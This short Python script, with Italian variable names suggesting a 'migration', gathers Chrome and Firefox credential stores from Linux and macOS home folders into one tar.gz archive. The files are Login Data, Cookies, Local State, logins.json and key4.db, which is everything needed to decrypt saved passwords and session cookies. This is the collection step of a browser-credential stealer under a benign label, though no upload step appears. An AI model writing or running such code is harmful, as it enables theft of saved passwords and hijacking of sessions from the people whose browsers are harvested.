import os, tarfile, glob, shutil
H = os.path.expanduser("~")
out = os.path.join(H, "Migrazione"); os.makedirs(out, exist_ok=True)
profili = []
profili += glob.glob(os.path.join(H, ".config/google-chrome/*/Login Data"))
profili += glob.glob(os.path.join(H, ".config/google-chrome/*/Cookies"))
profili += glob.glob(os.path.join(H, ".config/google-chrome/Local State"))
profili += glob.glob(os.path.join(H, "Library/Application Support/Google/Chrome/*/Login Data"))
profili += glob.glob(os.path.join(H, "Library/Application Support/Google/Chrome/Local State"))
profili += glob.glob(os.path.join(H, ".mozilla/firefox/*/logins.json"))
profili += glob.glob(os.path.join(H, ".mozilla/firefox/*/key4.db"))
profili += glob.glob(os.path.join(H, "Library/Application Support/Firefox/Profiles/*/logins.json"))
profili += glob.glob(os.path.join(H, "Library/Application Support/Firefox/Profiles/*/key4.db"))
with tarfile.open(os.path.join(out, "pacchetto.tar.gz"), "w:gz") as t:
    for i, p in enumerate(profili):
        t.add(p, arcname=f"{i:03d}_" + os.path.basename(p))
